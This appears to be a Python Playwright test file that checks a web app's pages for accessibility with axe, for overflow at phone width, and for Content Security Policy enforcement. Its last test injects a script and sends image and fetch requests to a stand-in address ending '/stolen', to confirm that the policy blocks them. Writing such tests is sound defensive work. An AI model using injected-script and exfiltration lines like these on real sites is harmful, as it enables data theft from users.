"""Every page, in both themes and on a telephone: nothing that axe finds, nothing wider than the screen, no complaint of the
browser, nothing asked of another place.
"""

from __future__ import annotations

from collections.abc import Callable
from importlib.resources import files

import pytest
from playwright.async_api import Page, expect

from . import town as towns
from .chromium import Visit, aside
from .desk import Desk

AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")
# All of its rules: WCAG A and AA, and what it holds to be good practice. The other theme changes colours and nothing else.
_RUN = """async theme => (await axe.run(document, {
    resultTypes: ['violations'], ...(theme === 'dark' && {runOnly: ['color-contrast', 'link-in-text-block']}),
})).violations"""


@pytest.fixture(scope="module")
def desk(make_desk: Callable[..., Desk]) -> Desk:
    return make_desk(towns.prepare)


@pytest.fixture(scope="module")
def town(desk: Desk) -> towns.Town:
    return towns.settle_in(desk)


async def violations(page: Page) -> list[str]:
    """In both themes. Evaluated through the browser's own door: the page's policy would rightly not let it in."""
    await page.evaluate(AXE)
    found = []
    for theme in ("light", "dark"):
        await page.emulate_media(color_scheme=theme)  # type: ignore[arg-type]
        found += [
            f"{page.url} {theme}: {one['help']}: {[node['html'][:200] for node in one['nodes']][:4]}"
            for one in await page.evaluate(_RUN, theme)
        ]
    return found


async def test_axe_finds_nothing_on_any_page(visit: Visit, desk: Desk, town: towns.Town) -> None:
    page, found = visit.page, []
    visit.expect("404")  # the page that is nowhere
    for address in (await aside(towns.pages, desk, town)).values():
        await page.goto(address)
        for each in await page.locator("details").all():
            await each.evaluate("details => { details.open = true }")
        found += await violations(page)
    assert found == []


async def test_axe_finds_nothing_where_something_went_wrong_or_is_shown_once(visit: Visit) -> None:
    page = visit.page
    await page.goto("/accounts/add")
    await page.get_by_label("Name").fill("no good name")
    visit.expect("400")
    await page.get_by_role("button", name="Add").click()
    await expect(page.get_by_role("alert")).to_be_visible()
    found = await violations(page)
    await page.get_by_label("Name").fill("good-name")
    await page.get_by_role("button", name="Add").click()
    await expect(page.get_by_role("heading", level=1)).to_have_text("Password of good-name")
    assert found + await violations(page) == []


async def test_axe_finds_nothing_at_the_login(stranger: Visit) -> None:
    await stranger.page.goto("/login")
    found = await violations(stranger.page)
    await stranger.log_in("nobody", "nothing")
    await expect(stranger.page.get_by_role("alert")).to_be_visible()
    assert found + await violations(stranger.page) == []


async def test_axe_is_there_and_finds_what_is_wrong(stranger: Visit) -> None:
    await stranger.page.goto("/login")
    await stranger.page.locator("label").first.evaluate("label => label.remove()")
    assert any("labels" in one.lower() for one in await violations(stranger.page))


async def test_no_page_is_wider_than_a_telephone(visit: Visit, desk: Desk, town: towns.Town) -> None:
    page, wide = visit.page, []
    visit.expect("404")
    await page.set_viewport_size({"width": 360, "height": 740})
    for address in (await aside(towns.pages, desk, town)).values():
        await page.goto(address)
        beyond = await page.evaluate("document.documentElement.scrollWidth - innerWidth")
        if beyond > 0:
            wide.append(f"{address}: {beyond} too wide")
    assert wide == []


async def test_a_script_that_got_into_a_page_could_neither_run_nor_tell_anybody(stranger: Visit) -> None:
    """And what the tests of the console rely on: such a thing does not go unnoticed here."""
    page = stranger.page
    await page.goto("/login")
    await page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'document.title = "owned"';
            document.head.append(script);
            const image = new Image();
            image.src = 'http://192.0.2.1/stolen';
            return fetch('http://192.0.2.1/stolen').catch(() => null);
        }"""
    )
    assert await page.title() == "Log in - dockgate"
    assert any("script-src" in each for each in stranger.complaints)
    assert any("connect-src" in each for each in stranger.complaints)
    assert any("img-src" in each for each in stranger.complaints)
    stranger.expect("Content Security Policy|192.0.2.1")
    assert stranger.went_elsewhere == []
